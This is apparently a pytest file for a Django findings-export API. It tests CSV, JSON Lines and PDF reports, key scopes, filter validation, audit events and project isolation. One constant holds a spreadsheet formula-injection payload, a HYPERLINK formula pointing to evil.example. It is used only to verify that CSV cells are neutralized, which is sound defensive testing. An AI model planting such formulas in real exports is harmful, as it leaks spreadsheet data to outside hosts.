"""The API's reports: a project's findings as CSV or JSON Lines and its audit report as a
PDF, read with a key's read scope (or signed in, naming the project). That every queue
filter is taken is tested here with the desk of test_export_filters.py."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from pypdf import PdfReader

from checks import review
from checks.filters import PARAMS
from checks.models import ApiKey, AuditEvent, Finding
from checks.reporting import exports
from tests.test_export_filters import _ids, _streamed, make_desk, narrowing

pytestmark = pytest.mark.django_db

CSV, JSONL, PDF = "/api/v1/findings.csv", "/api/v1/findings.jsonl", "/api/v1/report.pdf"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def bearer(key: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {key}"}


@pytest.fixture
def reader(project: Any) -> str:
    _, key = ApiKey.issue(project=project, name="reader", scopes=["read"])
    return key


@pytest.fixture
def checked(ingest: Any, bob: Any) -> dict[str, Any]:
    """Three examples checked; the count misstatement confirmed by bob with a reason a
    spreadsheet would run."""
    conversation = ingest("05")
    ingest("01")
    ingest("09")
    count = Finding.objects.get(code="count_misstatement")
    review.record_decision(finding=count, reviewer=bob, verdict="confirmed", reason=HOSTILE)
    return {"count": count, "conversation": conversation}


@pytest.fixture
def desk(ingest: Any, alice: Any, bob: Any, vic: Any, project: Any) -> dict[str, Any]:
    """The project of test_export_filters.py, where each queue filter selects less than all."""
    return make_desk(ingest, alice, bob, project)


@pytest.mark.parametrize("kind", ["csv", "jsonl"])
@pytest.mark.parametrize("name", PARAMS)
def test_the_api_takes_every_queue_filter(client: Any, desk: dict[str, Any], name: str, kind: str) -> None:
    """The API's findings, with a key's read scope, take each filter under the queue's name."""
    _, key = ApiKey.issue(project=desk["project"], name="reader", scopes=["read"])
    value, expected = narrowing(desk, name)
    response = client.get(
        f"/api/v1/findings.{kind}", {name: value}, headers={"Authorization": f"Bearer {key}"}
    )
    body = _streamed(response)
    if kind == "jsonl":
        assert _ids(body) == expected
    else:
        assert {int(row["finding_id"]) for row in csv.DictReader(io.StringIO(body))} == expected


def _body(response: Any) -> str:
    assert response.status_code == 200, response.content[:500] if not response.streaming else ""
    return b"".join(response.streaming_content).decode()


def _refusal(response: Any, status: int) -> dict[str, Any]:
    """The JSON error of a refused request (whatever the client said it accepts)."""
    assert response.status_code == status, response.content[:500]
    assert response["Content-Type"] == "application/json"
    body: dict[str, Any] = json.loads(response.content)
    return body


@pytest.mark.parametrize("path", [CSV, JSONL, PDF])
def test_a_key_without_the_read_scope_gets_403(client: Any, project: Any, path: str) -> None:
    _, sender = ApiKey.issue(project=project, name="sender", scopes=["ingest", "check"])
    body = _refusal(client.get(path, headers=bearer(sender)), 403)
    assert "scope" in body["detail"]


@pytest.mark.parametrize("path", [CSV, JSONL, PDF])
def test_no_key_gets_401(client: Any, project: Any, path: str) -> None:
    assert client.get(path).status_code == 401


@pytest.mark.parametrize(
    ("query", "field", "fix"),
    [
        ({"status": "maybe"}, "status", "use one of open, confirmed, dismissed"),
        ({"severity": "loud"}, "severity", "use one of flag, info"),
        ({"since": "2026-13-01"}, "since", "use a date as YYYY-MM-DD"),
        ({"to": "yesterday"}, "to", "use a date as YYYY-MM-DD"),  # the older name is the one named
        ({"conversation": "a\x00b"}, "conversation", "U+0000"),
        ({"assignee": "mine"}, "assignee", "a key is none"),
        ({"agent": "a\x00b"}, "agent", "U+0000"),  # PostgreSQL can neither compare nor store it
        ({"project": "\x00"}, "project", "U+0000"),
    ],
)
def test_a_filter_value_that_cannot_be_read_is_a_400_naming_it(
    client: Any, reader: str, checked: Any, query: dict[str, str], field: str, fix: str
) -> None:
    for path in (CSV, JSONL):
        body = _refusal(client.get(path, query, headers={**bearer(reader), "Accept": "text/csv"}), 400)
        (error,) = body["errors"]
        assert error["path"] == field and fix in error["message"]
    assert not AuditEvent.objects.filter(verb="export.downloaded").exists()  # nothing went out


def test_the_csv_is_streamed_with_its_cells_neutralized(client: Any, reader: str, checked: Any) -> None:
    response = client.get(CSV, headers=bearer(reader))
    assert response.streaming and response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(_body(response))))
    assert {int(r["finding_id"]) for r in rows} == set(Finding.objects.current().values_list("pk", flat=True))
    count = next(r for r in rows if r["code"] == "count_misstatement")
    assert count["decision_reason"] == exports.neutralize(HOSTILE) == "'" + HOSTILE
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(exports.FORMULA_STARTS), cell


def test_the_jsonl_holds_each_finding_with_its_provenance(client: Any, reader: str, checked: Any) -> None:
    response = client.get(JSONL, {"status": "confirmed"}, headers=bearer(reader))
    assert response["Content-Type"].startswith("application/jsonl")
    (record,) = [json.loads(line) for line in _body(response).splitlines()]
    assert record["id"] == checked["count"].pk and record["code"] == "count_misstatement"
    assert record["decisions"][0]["reason"] == HOSTILE  # JSON keeps the text as it was
    assert record["provenance"]["fingerprint"] == checked["count"].fingerprint
    assert record["url"].startswith("http://testserver/p/acme/turns/")


def test_every_download_is_audited_with_the_key_that_took_it(client: Any, project: Any, checked: Any) -> None:
    key, secret = ApiKey.issue(project=project, name="reader", scopes=["read"])
    _body(client.get(JSONL, {"code": "count_misstatement"}, headers=bearer(secret)))
    event = AuditEvent.objects.get(verb="export.downloaded")
    assert event.project == project and event.actor is None and event.actor_name == "api:acme"
    assert event.after == {
        "kind": "jsonl",
        "filters": {"code": "count_misstatement"},
        "key": key.prefix,
        "via": "api",
    }


def test_a_key_reads_its_own_project_only(
    client: Any, other_project: Any, ingest: Any, checked: Any, reader: str
) -> None:
    _, elsewhere = ApiKey.issue(project=other_project, name="elsewhere", scopes=["read"])
    ingest("07", into=other_project)
    theirs = set(Finding.objects.filter(project=other_project).values_list("pk", flat=True))
    lines = _body(client.get(JSONL, headers=bearer(elsewhere))).splitlines()
    assert {json.loads(line)["id"] for line in lines} == theirs
    body = _refusal(client.get(JSONL, {"project": "acme"}, headers=bearer(elsewhere)), 404)
    assert body["errors"][0]["path"] == "project" and "acme" not in body["errors"][0]["message"]
    assert client.get(JSONL, {"project": "acme"}, headers=bearer(reader)).status_code == 200


def test_a_member_signed_in_names_the_project(client: Any, bob: Any, olga: Any, checked: Any) -> None:
    client.force_login(bob)
    body = _refusal(client.get(JSONL), 400)
    assert body["errors"][0]["path"] == "project"
    Finding.objects.filter(pk=checked["count"].pk).update(assignee=bob)
    mine = _body(client.get(JSONL, {"project": "acme", "assignee": "mine"})).splitlines()
    assert [json.loads(line)["id"] for line in mine] == [checked["count"].pk]
    client.force_login(olga)
    _refusal(client.get(JSONL, {"project": "acme"}), 404)


def test_under_blind_review_a_key_sees_no_verdict_nor_correction_on_an_open_finding(
    client: Any, project: Any, reader: str, ingest: Any, bob: Any
) -> None:
    project.double_review = True
    project.save(update_fields=["double_review"])
    ingest("05")
    finding = Finding.objects.get(code="count_misstatement")
    review.record_decision(finding=finding, reviewer=bob, verdict="correction", reason="secret reason")
    assert Finding.objects.get(pk=finding.pk).status == "open"  # one of two reviews
    body = _body(client.get(JSONL, headers=bearer(reader)))
    record = next(json.loads(line) for line in body.splitlines() if json.loads(line)["id"] == finding.pk)
    # bob's proposed correction says he confirmed: hidden with his verdict.
    assert (record["decisions"], record["corrections"]) == ([], []) and "secret reason" not in body


def test_what_the_client_accepts_does_not_change_the_answer(client: Any, reader: str, checked: Any) -> None:
    """The path names the format: a client that sends Accept: application/json still gets the
    CSV, and one that accepts only CSV still gets a refusal it can read."""
    response = client.get(CSV, headers={**bearer(reader), "Accept": "application/json"})
    assert response["Content-Type"].startswith("text/csv") and _body(response).startswith("finding_id,")
    _refusal(client.get(CSV, {"status": "?"}, headers={**bearer(reader), "Accept": "text/csv"}), 400)


@pytest.mark.parametrize("name", [n for n in PARAMS if n not in ("since", "until", "conversation")])
def test_the_report_refuses_filters_it_does_not_apply(client: Any, reader: str, name: str) -> None:
    body = _refusal(client.get(PDF, {name: "x"}, headers=bearer(reader)), 400)
    assert body["errors"][0]["path"] == name and "period or one conversation" in body["errors"][0]["message"]


def test_the_reports_period_and_conversation_are_checked(
    client: Any, reader: str, checked: Any, other_project: Any, ingest: Any
) -> None:
    def error(query: dict[str, str], status: int) -> dict[str, str]:
        (found,) = _refusal(client.get(PDF, query, headers=bearer(reader)), status)["errors"]
        return dict(found)

    assert error({"since": "2026-12-01", "until": "2026-11-01"}, 400)["path"] == "since"
    assert error({"since": "2024-01-01", "until": "2026-01-01"}, 400)["path"] == "since"
    assert error({"conversation": "x1"}, 404)["path"] == "conversation"  # no conversation has that id
    convo = str(checked["conversation"].pk)
    assert error({"conversation": convo, "until": "2026-01-01"}, 400)["path"] == "since"
    elsewhere = ingest("07", into=other_project)
    assert error({"conversation": str(elsewhere.pk)}, 404)["path"] == "conversation"
    assert not AuditEvent.objects.filter(verb="report.downloaded").exists()


def test_the_schema_documents_each_report_with_every_filter(client: Any) -> None:
    schema = client.get("/api/v1/schema", headers={"Accept": "application/json"}).json()
    for path, media_type in ((CSV, "text/csv"), (JSONL, "application/jsonl"), (PDF, "application/pdf")):
        operation = schema["paths"][path]["get"]
        assert media_type in operation["responses"]["200"]["content"], path
        assert {"400", "401", "403", "404"} <= set(operation["responses"]), path
        assert {"ApiKey": []} in operation["security"]
    for path in (CSV, JSONL):
        names = {p["name"] for p in schema["paths"][path]["get"]["parameters"]}
        assert names == {"project", *PARAMS}, path
    assert {p["name"] for p in schema["paths"][PDF]["get"]["parameters"]} == {
        "project",
        "since",
        "until",
        "conversation",
    }
    # A conversation's findings take the same filters, and say so.
    findings = schema["paths"]["/api/v1/conversations/{id}/findings"]["get"]
    assert {p["name"] for p in findings["parameters"] if p["in"] == "query"} == set(PARAMS)


@pytest.mark.pdf
def test_the_report_is_a_pdf_of_the_keys_project(client: Any, reader: str, checked: Any) -> None:
    response = client.get(PDF, headers=bearer(reader))
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
    assert "Audit report" in text and "Acme support" in text and "count_misstatement" in text
    assert "api:acme" in text  # who it was prepared for
    event = AuditEvent.objects.get(verb="report.downloaded")
    assert event.actor_name == "api:acme" and event.after is not None
    assert event.after["via"] == "api" and "since" in event.after


@pytest.mark.pdf
def test_the_report_of_one_conversation(client: Any, reader: str, checked: Any) -> None:
    convo = checked["conversation"]
    response = client.get(PDF, {"conversation": str(convo.pk)}, headers=bearer(reader))
    assert response.status_code == 200 and response.content.startswith(b"%PDF-")
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
    assert "ex-count" in text and "ex-sencha" not in text
    assert AuditEvent.objects.get(verb="report.downloaded").object_id == str(convo.pk)
